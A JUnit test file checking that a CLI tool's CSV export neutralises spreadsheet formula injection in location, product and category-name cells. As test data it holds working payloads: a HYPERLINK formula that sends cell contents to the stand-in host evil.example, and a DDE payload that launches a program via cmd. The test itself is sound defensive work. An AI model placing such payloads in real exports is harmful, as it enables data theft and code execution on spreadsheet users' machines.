package org.klaster.app.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.klaster.app.cli.CliRun.ok;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 10, probe 3 (formula injection) through the command line: codes and names of an analyst's file that
 * start with {@code = + - @} come back in {@code --format csv} with a leading single quote, quoted (OWASP
 * "CSV Injection"), while every number — negative ECI and PCI included — is the JSON's number, and JSON keeps
 * the texts as they are.
 */
class FormulaCellsCliTest {

    @TempDir
    Path dir;

    /** The 4 × 5 hand exports of core's ComplexityHandExampleTest, with the probe payloads as codes. */
    static final List<String> LOCATIONS = List.of("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
            "@SUM(1)", "-2+3");
    static final List<String> PRODUCTS = List.of("0001", "=1+1", "-0003", "@0004", "0005");
    static final double[][] X = {{20, 10, 0, 0, 10}, {0, 10, 10, 0, 0}, {0, 0, 10, 10, 0}, {0, 0, 0, 10, 10}};

    static String exportsCsv() {
        StringBuilder b = new StringBuilder("year,location,product,value\n");
        for (int c = 0; c < X.length; c++) {
            for (int p = 0; p < X[c].length; p++) {
                b.append("2023,\"").append(LOCATIONS.get(c).replace("\"", "\"\"")).append("\",\"")
                        .append(PRODUCTS.get(p)).append("\",").append((long) X[c][p]).append('\n');
            }
        }
        return b.toString();
    }

    static boolean trigger(String s) {
        return !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0;
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.DEFAULT.builder().setHeader().get().parse(new StringReader(csv)).getRecords();
    }

    /** Probe 3: CSV cells neutralised cell by cell against the JSON of the same run; numbers identical. */
    @Test
    void complexityCsvNeutralisesCodesAndKeepsNumbers() throws IOException {
        Path f = Files.writeString(dir.resolve("exports.csv"), exportsCsv(), StandardCharsets.UTF_8);
        String csv = ok("complexity", "--exports", f.toString(), "--format", "csv").out();
        JsonNode json = new ObjectMapper().readTree(ok("complexity", "--exports", f.toString(), "--format", "json").out());
        List<CSVRecord> rows = parse(csv);
        assertThat(rows).hasSize(json.size()).hasSize(20);
        int neutralised = 0;
        int negative = 0;
        for (int i = 0; i < rows.size(); i++) {
            Map<String, String> r = rows.get(i).toMap();
            JsonNode j = json.get(i);
            for (String text : List.of("location", "product")) {
                String raw = j.get(text).asText();
                assertThat(LOCATIONS.contains(raw) || PRODUCTS.contains(raw)).as(raw).isTrue(); // JSON: as it is
                assertThat(r.get(text)).isEqualTo(trigger(raw) ? "'" + raw : raw);
                if (trigger(raw)) neutralised++;
            }
            for (String number : List.of("value", "rca", "eci", "pci", "density", "coi", "cog")) {
                assertThat(Double.parseDouble(r.get(number))).as(number).isEqualTo(j.get(number).asDouble());
                if (r.get(number).startsWith("-") && !r.get(number).equals("-0")) negative++;
            }
        }
        assertThat(neutralised).isEqualTo(4 * 5 + 4 * 3); // every location and three of the five products start with a trigger
        assertThat(negative).isPositive();
        // the very payloads of the issue, as a spreadsheet would receive them
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"open\"\")\"", "\"'+1+cmd|' /C calc'!A0\"",
                "\"'@SUM(1)\"", "\"'-2+3\"", "\"'=1+1\"", "\"'-0003\"", "\"'@0004\"");
        for (String line : csv.lines().toList()) {
            for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
                String content = cell.startsWith("\"") ? cell.substring(1) : cell; // numbers may start with '-'
                assertThat(content).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
            }
        }
    }

    /** Probe 3 for a name column: category names of an analyst's category map ({@code --names}). */
    @Test
    void namesAreNeutralisedToo() throws IOException {
        Path act = Files.writeString(dir.resolve("act.csv"), "region,industry,year,employment\nRU-SAM,29.1,2024,1000\n"
                + "RU-SAM,10.1,2024,500\nRU-MOW,29.1,2024,200\nRU-MOW,10.1,2024,5000\n");
        Path cats = Files.writeString(dir.resolve("cats.csv"), "industry,category,category_name\n"
                + "29,auto,\"=HYPERLINK(\"\"http://evil.example/\"\")\"\n10,-food,@SUM(1)\n");
        String csv = ok("map", "--activity", act.toString(), "--categories", cats.toString(), "--names", "--format", "csv").out();
        assertThat(csv).isEqualTo("""
                region,region_name,category,category_name,year,employment,share,lq,size_star,specialisation_star,focus_star,stars,strong
                RU-MOW,Moscow,"'-food","'@SUM(1)",2024,5000,0.9615384615384616,1.1713286713286712,1,0,1,2,true
                RU-MOW,Moscow,auto,"'=HYPERLINK(""http://evil.example/"")",2024,200,0.038461538461538464,0.21474358974358973,0,0,0,0,false
                RU-SAM,Samara Oblast,"'-food","'@SUM(1)",2024,500,0.3333333333333333,0.40606060606060607,0,0,0,0,false
                RU-SAM,Samara Oblast,auto,"'=HYPERLINK(""http://evil.example/"")",2024,1000,0.6666666666666666,3.7222222222222223,1,1,1,3,true
                """);
        String json = ok("map", "--activity", act.toString(), "--categories", cats.toString(), "--names", "--format", "json").out();
        assertThat(new ObjectMapper().readTree(json).get(0).get("category_name").asText()).isEqualTo("@SUM(1)");
    }
}
